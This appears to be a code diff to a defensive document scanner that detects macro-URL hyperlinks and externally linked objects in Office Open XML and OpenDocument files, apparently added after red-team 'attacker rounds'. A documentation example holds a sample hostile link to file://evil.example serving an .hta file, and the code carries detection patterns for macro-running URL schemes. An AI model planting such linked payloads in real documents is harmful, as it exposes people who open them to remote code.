@@ -1,3 +1,4 @@
+import { decodeEntities } from './html-text.js';
 import { XML_PREFIX, xmlAttributes, xmlText } from './xml-document.js';
 
 // An Office Open XML document's relationships (`_rels/*.rels`) may name parts outside it (`TargetMode="External"`),
@@ -6,6 +7,8 @@ import { XML_PREFIX, xmlAttributes, xmlText } from './xml-document.js';
 // A tag's attributes end at the next `>` outside quotes (an attribute value may hold `>`, not `<`): each character
 // is read once, however the tags are cut.
 const RELATIONSHIP = new RegExp(`<${XML_PREFIX}Relationship\\b((?:[^<>"']|"[^<"]*"|'[^<']*')*)`, 'gi');
+// A link whose address is a macro, which LibreOffice runs when the link is followed (attacker round 58).
+const MACRO_URL = /^(?:vnd\.sun\.star\.script|macro):/i;
 
 /** An external relationship's target, and whether Word fetches it as a picture (drawn, never run). */
 export interface ExternalTarget {
@@ -30,8 +33,9 @@ export function externalTargets(rels: Buffer): ExternalTarget[] {
     const attributes = xmlAttributes(m[1] as string);
     if (attributes.get('targetmode')?.toLowerCase() !== 'external') continue;
     const type = attributes.get('type') ?? '';
-    if (/\/hyperlink$/i.test(type)) continue;
     const target = attributes.get('target');
+    // A hyperlink is followed only when clicked, unless LibreOffice (which opens OOXML too) runs it as a macro.
+    if (/\/hyperlink$/i.test(type) && !MACRO_URL.test(target?.trim() ?? '')) continue;
     if (target) targets.push({ target, picture: /\/image$/i.test(type) });
   }
   return targets;
@@ -79,8 +83,14 @@ const ODF_EVENT = new RegExp(
   'gi',
 );
 
+// A link (`text:a`, a shape's `draw:a`, any `xlink:href`) whose address is a macro ({@link MACRO_URL}), run as one
+// bound to an event is.
+const HREF = /\bhref\s*=\s*(?:"([^"<]*)"|'([^'<]*)')/gi;
+
 function runsOdfProgram(markup: string): boolean {
   if (!/opendocument|openoffice|&/i.test(markup)) return false;
+  for (const m of markup.matchAll(HREF))
+    if (MACRO_URL.test(decodeEntities(m[1] ?? m[2] ?? '').trim())) return true;
   for (const m of markup.matchAll(ODF_EVENT)) {
     const attributes = new Map<string, string>();
     for (const [name, value] of xmlAttributes(m[2] as string))
@@ -95,4 +105,40 @@ function runsOdfProgram(markup: string): boolean {
     if (m[1] !== undefined && attributes.has('language')) return true;
   }
   return false;
+}
+
+// OpenDocument names an object from outside its package by an `xlink:href` that is no package path (attacker round
+// 58): a linked object (`draw:object`, `draw:object-ole`), a linked section (`text:section-source`), a floating
+// frame, a sheet or range linked to another file (`table:table-source`, `table:cell-range-source`). LibreOffice
+// loads each as the document opens (after its "update links" prompt), as Word fetches an OOXML document's external
+// objects and frames. Pictures and hyperlinks are left out, as in OOXML.
+const ODF_LINKING = new RegExp(
+  `<${XML_PREFIX}(?:object|object-ole|section-source|floating-frame|table-source|cell-range-source)(?=[\\s/>])((?:[^<>"']|"[^<"]*"|'[^<']*')*)`,
+  'gi',
+);
+
+/**
+ * The `xlink:href` of each OpenDocument element that loads an object from outside the package. A path is the
+ * package's unless, as xmloff's `IsPackageURL` reads it, it starts with `/` or `..`, or has a scheme (a `:` before
+ * any `/`). Linear in its size.
+ *
+ * @example
+ * ```ts
+ * odfExternalLinks('<draw:object-ole xlink:href="file://evil.example/s/x.hta"/>'); // ['file://evil.example/s/x.hta']
+ * ```
+ */
+export function odfExternalLinks(markup: string): string[] {
+  if (!/href/i.test(markup)) return [];
+  const links: string[] = [];
+  for (const m of markup.matchAll(ODF_LINKING))
+    for (const [name, value] of xmlAttributes(m[1] as string))
+      if (name.slice(name.lastIndexOf(':') + 1) === 'href' && !isPackagePath(value)) links.push(value);
+  return links;
+}
+
+function isPackagePath(href: string): boolean {
+  if (href.startsWith('/') || href.startsWith('..')) return false;
+  const slash = href.indexOf('/', 1);
+  const colon = href.indexOf(':', 1);
+  return colon < 0 || (slash >= 0 && slash < colon);
 }
